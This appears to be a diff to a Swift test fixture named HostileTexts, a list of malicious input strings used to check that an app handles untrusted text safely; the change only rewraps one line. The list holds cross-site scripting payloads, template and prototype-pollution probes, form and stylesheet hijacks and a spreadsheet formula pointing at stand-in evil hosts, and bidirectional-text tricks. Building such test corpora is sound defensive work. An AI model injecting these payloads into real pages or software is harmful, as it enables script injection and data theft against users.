@@ -18,7 +18,8 @@ enum HostileTexts {
         "<base href=//evil.example>", "<form action=//evil.example><button>", "<style>@import '//evil.example'</style>",
         "&lt;img src=x onerror=alert(1)&gt;", "{{constructor.constructor('alert(1)')()}} ${alert(1)} <%= 1 %> {0} {9}",
         "\u{2028}alert(1)\u{2029}\u{202E}txt \\u003cscript>", "</title><script>alert(1)</script>", "__proto__",
-        "constructor", "=HYPERLINK(\"//evil\",\"x\")", String(repeating: "A", count: 5_000), "👨‍👩‍👧‍👦🐕", "טיול עם הכלב",
+        "constructor", "=HYPERLINK(\"//evil\",\"x\")", String(repeating: "A", count: 5_000),
+        "👨‍👩‍👧‍👦🐕", "טיול עם הכלב",
         "\\\"};alert(1);//", "*/alert(1)/*",
     ]
 }
